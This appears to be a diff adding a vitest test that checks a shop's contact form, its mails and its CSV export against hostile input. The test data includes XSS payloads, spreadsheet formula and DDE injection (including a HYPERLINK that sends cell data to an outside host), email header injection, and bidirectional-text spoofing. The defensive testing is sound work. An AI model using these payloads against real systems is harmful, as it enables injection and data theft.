@@ -1,0 +1,111 @@
+import { readdir, readFile } from 'node:fs/promises'
+import { join } from 'node:path'
+import PostalMime, { type Email } from 'postal-mime'
+import { afterAll, beforeAll, expect, test } from 'vitest'
+import type { Browser } from '../../test/browser.ts'
+import { admin, openTestShop, type TestShop } from '../../test/shop.ts'
+import { calls } from '../contract/calls.ts'
+import type { ReceivedMessage } from '../contract/contact.ts'
+import { messages } from '../contract/messages.ts'
+
+const cluster = 'நீ👩🏽‍🎤ஸ்ரீ\u200d'
+const texts: Record<string, { name: string; message: string }> = {
+  HTML: { name: '<script>alert(1)</script>', message: '<img src=x onerror=alert(1)>"\'&amp;<!-- -->]]>' },
+  'a formula': { name: '=1+1', message: '=HYPERLINK("http://x.example?"&A1,"open")' },
+  'a formula after plus': { name: "+cmd|' /C calc'!A0", message: "@SUM(1+1)*cmd|' /C calc'!A0" },
+  'a formula after minus': { name: '-2+3', message: '\t=1+1' },
+  'a formula in wide letters': { name: '＝1+1', message: '\r\n=1+1' },
+  '5,000 characters of Tamil with emoji': { name: 'மீனாட்சி', message: [...cluster.repeat(800)].slice(0, 5000).join('') },
+  'signs that turn the direction': {
+    name: 'Meena \u202egpj.exe\u202c',
+    message: '\u202eesrever\u2066 mixed \u2069\u200f مرحبا',
+  },
+  'signs that nobody sees': { name: 'M\u200be\u2060e\ufeffna', message: 'a\u200bb\u200cc\u200dd\u2063e\u00adf' },
+  'lines that look like ours': {
+    name: 'Meena',
+    message: `Hello\n\n${messages.mail.message.dashboard}\n\nhttps://evil.example/admin\n.\r\nQUIT`,
+  },
+  'headers in a name': { name: 'a>, <victim@example.com', message: 'Bcc: victim@example.com\r\nSubject: won\r\n\r\nx' },
+}
+const email = 'meena@example.com'
+
+let shop: TestShop
+let owner: Browser
+let kept: ReceivedMessage[]
+let mails: Email[]
+beforeAll(async () => {
+  shop = await openTestShop()
+  owner = await shop.signedIn(admin)
+  for (const text of Object.values(texts)) {
+    const answer = await shop.browser().ask(calls.sendContactMessage, { ...text, email })
+    expect(answer.status, answer.refusal).toBe(200)
+    // What the filter thinks of them is another test's business.
+    await owner.ask(calls.markContactMessage, { id: answer.body.id, folder: 'inbox' })
+  }
+  kept = (await owner.ask(calls.listContactMessages, {})).body.messages
+  await shop.mailed()
+  const folder = join(shop.dataDir, 'outbox')
+  mails = await Promise.all(
+    (await readdir(folder)).map(async (name) => PostalMime.parse(await readFile(join(folder, name)))),
+  )
+})
+afterAll(() => shop.close())
+
+const cases = Object.entries(texts)
+
+test.each(cases)('%s is stored as it was typed', (_, { name, message }) => {
+  const found = kept.find((one) => one.message === message)
+  expect(found && Buffer.from(`${found.name}\n${found.message}`)).toEqual(Buffer.from(`${name}\n${message}`))
+})
+
+test.each(cases)('%s is mailed harmless', (_, { message }) => {
+  const { id } = kept.find((one) => one.message === message) as ReceivedMessage
+  const mail = mails.find(({ messageId }) => messageId?.includes(id)) as Email
+  expect(mail.to).toEqual([{ name: '', address: admin.email }])
+  expect([mail.cc, mail.bcc, mail.replyTo?.map(({ address }) => address)]).toEqual([undefined, undefined, [email]])
+  const trick = /[\p{Cc}\u200b\u200e\u200f\u2028-\u202e\u2060-\u2069\ufeff]/u
+  for (const words of [mail.subject, mail.replyTo?.[0]?.name]) expect(words).not.toMatch(trick)
+  for (const { value } of mail.headers) expect(value.replace(/\s/g, '')).not.toMatch(trick)
+  expect(mail.html).not.toMatch(/<(?:script|img)\b/)
+  // Nothing of it stands where our own lines stand.
+  const ours = mail.text?.split(/\r?\n/).filter((line) => line && !line.startsWith('>')) ?? []
+  expect(ours).toHaveLength(4)
+  expect(ours.join()).not.toContain('evil')
+  const quoted = mail.text?.split(/\r?\n/).filter((line) => line.startsWith('>')) ?? []
+  expect(
+    quoted
+      .map((line) => line.slice(2))
+      .join('\n')
+      .trim(),
+  ).toBe(
+    message
+      .split(/\r\n?|\n/)
+      .join('\n')
+      .trim(),
+  )
+})
+
+test('the file for a spreadsheet has every cell as it was typed, and none is a formula', async () => {
+  const answer = await owner.fetch('/v1/contactMessages.csv')
+  expect(answer.status).toBe(200)
+  const bytes = Buffer.from(await answer.arrayBuffer())
+  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
+  const [head, ...rows] = cellsOf(bytes.subarray(3).toString('utf8'))
+  expect(head).toEqual(['Received', 'Name', 'Email', 'Message', 'Read'])
+  expect(rows).toHaveLength(cases.length)
+  for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/)
+  for (const { name, message } of Object.values(texts)) {
+    const row = rows.find((cells) => cells[3]?.replace(/^'/, '') === message)
+    expect(row?.[1]?.replace(/^'/, ''), message).toBe(name)
+  }
+})
+
+/** As a spreadsheet reads it. */
+function cellsOf(csv: string): string[][] {
+  const rows: string[][] = [[]]
+  for (const [, quoted, end] of csv.matchAll(/"((?:[^"]|"")*)"(,|\r\n)/g)) {
+    rows.at(-1)?.push(String(quoted).replaceAll('""', '"'))
+    if (end === '\r\n') rows.push([])
+  }
+  return rows.filter((row) => row.length > 0)
+}
